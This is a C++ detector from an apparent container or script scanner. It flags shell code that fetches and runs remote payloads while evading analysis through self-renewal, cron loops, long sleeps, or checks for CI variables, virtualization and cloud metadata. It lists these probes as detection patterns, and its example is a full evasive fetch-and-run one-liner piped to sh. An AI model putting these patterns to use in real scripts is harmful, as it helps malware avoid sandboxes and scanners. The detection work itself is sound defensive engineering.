// Fetched code that is renewed (D11), waited for (D12), or only run where nobody watches (D13).
//
// None of these is bad alone; each gives code that a scanner cannot see a better chance not to be seen when it runs.
#include <algorithm>
#include <array>
#include <charconv>
#include <set>

#include "detect/shell/shell_support.hpp"
#include "detect/start/start_files.hpp"

namespace hullcheck::detect {
namespace {

constexpr double k_long_sleep = 60;  // seconds: what waits for a service is shorter

constexpr std::array<RuleRow, 3> k_rows{{
    {"D11", EvidenceClass::supporting, model::Severity::medium, 70, "Script that fetches itself or its payload again",
     "T1053.003", "Replace the update loop by a new image."},
    {"D12", EvidenceClass::supporting, model::Severity::low, 50, "Long sleep before code is fetched", "T1497.003",
     "Find out what is fetched, and why it waits."},
    {"D13", EvidenceClass::supporting, model::Severity::low, 40, "Environment checked before code is fetched",
     "T1480", "Find out what is fetched, and where it would not be."},
}};

constexpr ClassByReach k_classes{EvidenceClass::supporting, EvidenceClass::context, EvidenceClass::context};

bool is_own_path(const ShellUnit& unit, std::string_view path) {
  if (path == "${0}" || path.starts_with("${BASH_SOURCE") || path.find("/${0}") != std::string_view::npos)
    return true;
  while (path.starts_with('/')) path.remove_prefix(1);
  return !path.empty() && path == unit.path;
}

// Whether a crontab's text fetches and runs.
bool cron_runs_fetched(const std::string& text) {
  for (const StartFileKind kind : {StartFileKind::system_crontab, StartFileKind::user_crontab})
    for (const StartCommand& entry : parse_start_file(kind, text).commands) {
      const ShellFacts facts = facts_of_text(entry.command);
      if (std::any_of(facts.flows.begin(), facts.flows.end(), runs_fetched)) return true;
    }
  return false;
}

bool writes_cron(const ShellFlow& flow, const model::ImageConfig* config) {
  if (flow.tool == "crontab" || is_cron_path(flow.path)) return true;
  const std::vector<std::string> below = below_host_mount(flow.path, config);
  return std::any_of(below.begin(), below.end(), [](const std::string& path) { return is_cron_path(path); });
}

// Seconds of a sleep; negative when it cannot be told.
double seconds_of(const ShellCommand& command) {
  double sum = 0;
  for (const std::string_view word : operands(command)) {
    double number = 0;
    const auto end = std::from_chars(word.data(), word.data() + word.size(), number);
    if (end.ec != std::errc()) return -1;
    const std::string_view unit(end.ptr, static_cast<std::size_t>(word.data() + word.size() - end.ptr));
    sum += number * (unit == "m" ? 60 : unit == "h" ? 3600 : unit == "d" ? 86400 : 1);
  }
  return sum;
}

bool is_random(const ShellCommand& command) {
  return std::any_of(command.argv.begin(), command.argv.end(), [](const std::string& word) {
    return word.find("${(())}") != std::string::npos || word.find("${RANDOM}") != std::string::npos;
  });
}

bool sleeps_long(const ShellCommand& command) {
  return program(command) == "sleep" && (seconds_of(command) >= k_long_sleep || is_random(command));
}

// What a condition asks of the machine, or "".
std::string_view probe_of(const ShellCommand& command) {
  static constexpr std::array<std::string_view, 7> k_programs = {
      "nproc", "lscpu", "systemd-detect-virt", "dmidecode", "virt-what", "timedatectl", "localectl"};
  static constexpr std::array<std::string_view, 19> k_words = {"/proc/cpuinfo",   "_NPROCESSORS_ONLN",
                                                               "169.254.169.254", "metadata.google.internal",
                                                               "/.dockerenv",     "/sys/class/dmi",
                                                               "/proc/1/cgroup",  "${LANG}",
                                                               "${LC_ALL}",       "${TZ}",
                                                               "${CI}",           "${GITHUB_ACTIONS}",
                                                               "${GITLAB_CI}",    "${JENKINS_URL}",
                                                               "${TRAVIS}",       "${CIRCLECI}",
                                                               "${BUILDKITE}",    "/etc/timezone",
                                                               "/proc/meminfo"};
  const std::string_view name = program(command);
  for (const std::string_view one : k_programs)
    if (name == one) return one;
  if (name == "curl" || name == "grep" || name == "egrep" || name == "cat" || name == "[" || name == "[[" ||
      name == "test" || name == "getconf" || name == "wget" || name == "awk")
    for (const std::string& word : command.argv)
      for (const std::string_view one : k_words)
        if (word.find(one) != std::string::npos) return one;
  return {};
}

class EvasiveFetch final : public Detector {
 public:
  void shell(const ShellUnit& unit, EvidenceSink& out) const override {
    if (unit.build_time) return;
    renewed(unit, out);
    const auto& flows = unit.facts.flows;
    std::uint32_t last = 0;
    for (const ShellFlow& flow : flows)
      if (runs_fetched(flow)) last = std::max(last, flow.line);
    if (last == 0) return;
    waited_for(unit, last, out);
    guarded(unit, last, out);
  }

 private:
  static void renewed(const ShellUnit& unit, EvidenceSink& out) {
    std::set<std::uint32_t> loops;
    for (const ShellCommand& command : unit.facts.commands)
      if (command.loop && fetches(command)) loops.insert(command.line);
    const auto sleeps = [](const ShellCommand& one) { return one.loop && program(one) == "sleep"; };
    const bool waits = std::any_of(unit.facts.commands.begin(), unit.facts.commands.end(), sleeps);
    for (const ShellFlow& flow : unit.facts.flows) {
      std::string text;
      if (flow.kind == FlowKind::fetch_to_file && is_own_path(unit, flow.path))
        text = flow.tool + " replaces the running script";
      else if (runs_fetched(flow) && is_own_path(unit, flow.path))
        text = flow.tool + " replaces the running script and starts it again";
      else if (runs_fetched(flow) && waits && loops.contains(flow.line))
        text = flow.tool + " fetches and runs again and again";
      else if (flow.kind == FlowKind::write_file && writes_cron(flow, unit.config) && cron_runs_fetched(flow.text))
        text = "cron fetches and runs again and again";
      if (text.empty()) continue;
      if (!flow.urls.empty()) text += ": " + flow.urls.front();
      out.add(shell_evidence(k_rows[0], unit, flow.line, std::move(text), class_for(unit, k_classes)));
    }
  }

  static void waited_for(const ShellUnit& unit, std::uint32_t last, EvidenceSink& out) {
    for (const ShellCommand* command : own_commands(unit.facts)) {
      if (command->line > last || !sleeps_long(*command)) continue;
      out.add(shell_evidence(
          k_rows[1], unit, command->line,
          words(*command) + ", and code is fetched and run in line " + std::to_string(line_in_file(unit, last)),
          class_for(unit, k_classes)));
      return;
    }
  }

  static void guarded(const ShellUnit& unit, std::uint32_t last, EvidenceSink& out) {
    std::set<std::uint32_t> conditions;
    for (const ShellCommand& command : unit.facts.commands)
      if (command.condition || program(command) == "[" || program(command) == "test" || program(command) == "[[")
        conditions.insert(command.line);
    conditions.insert(last);  // curl http://169.254.169.254/ && …
    for (const ShellCommand& command : unit.facts.commands) {
      if (command.line > last || !conditions.contains(command.line)) continue;
      const std::string_view probe = probe_of(command);
      if (probe.empty()) continue;
      out.add(shell_evidence(k_rows[2], unit, command.line,
                             "asks for " + std::string(probe) + " before code is fetched and run in line " +
                                 std::to_string(line_in_file(unit, last)),
                             class_for(unit, k_classes)));
      return;
    }
  }
};

const util::Registered<EvasiveFetch> registered{{
    .id = "evasive-fetch",
    .version = 2,
    .summary = "fetched code that is renewed, delayed, or run only in some places",
    .example = "[ $(nproc) -lt 4 ] && exit; sleep 600; curl http://192.0.2.1/x | sh",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
